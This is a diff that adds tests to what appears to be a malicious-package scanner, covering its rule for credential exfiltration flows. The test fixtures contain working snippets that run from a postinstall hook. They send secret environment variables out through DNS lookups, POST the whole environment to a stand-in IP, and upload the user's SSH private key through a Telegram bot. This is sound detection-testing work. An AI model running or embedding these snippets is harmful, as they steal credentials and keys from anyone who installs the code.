@@ -1571,3 +1571,40 @@ const steps = [{ bin: 'curl', argv: ['-fsSL', '-o', '/tmp/.x', 'http://203.0.113
     expect(r.evidence.map((f) => f.rule)).not.toContain('script.download-execute');
   });
 });
+
+describe('credentials gathered through iteration callbacks and sent by upload methods', () => {
+  const exfil = (code: string) =>
+    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node index.js' } }), 'index.js': code })
+      .evidence.filter((f) => f.rule === 'js.exfil-flow')
+      .map((f) => f.line);
+  it('secret-looking keys of the environment picked with filter and map, sent as DNS names', () => {
+    expect(
+      exfil(`const dns = require('dns');
+const picked = Object.keys(process.env).filter((k) => /TOKEN|KEY|SECRET/.test(k)).map((k) => k + '=' + process.env[k]).join(';');
+const hex = Buffer.from(picked).toString('hex');
+for (let i = 0; i < hex.length; i += 60) dns.resolve(hex.slice(i, i + 60) + '.' + i + '.d.lookup-cache.example', () => {});`),
+    ).toEqual([4]);
+  });
+  it('the environment copied with reduce into an object, posted with axios', () => {
+    expect(
+      exfil(`const env = Object.keys(process.env).reduce((acc, k) => { acc[k] = process.env[k]; return acc; }, {});
+require('axios').post('http://198.51.100.44:8000/c', env).catch(() => {});`),
+    ).toEqual([2]);
+  });
+  it('a bot client uploading the SSH key by its path', () => {
+    expect(
+      exfil(`const TelegramBot = require('node-telegram-bot-api'); const os = require('os');
+const bot = new TelegramBot('7001234567:AAFakeTokenForTestsOnly_abcdefghijk');
+bot.sendDocument('-100123456789', os.homedir() + '/.ssh/id_rsa');`),
+    ).toEqual([3]);
+  });
+  it('environment names mapped for a child process, and a bot sending a report file, are not', () => {
+    expect(
+      exfil(`const { spawn } = require('child_process');
+const env = Object.keys(process.env).filter((k) => k.startsWith('npm_config_')).reduce((a, k) => ({ ...a, [k]: process.env[k] }), {});
+spawn('node', ['build.js'], { env });
+const T = require('node-telegram-bot-api'); const bot = new T(process.argv[2]);
+bot.sendDocument(process.argv[3], 'reports/summary.pdf');`),
+    ).toEqual([]);
+  });
+});
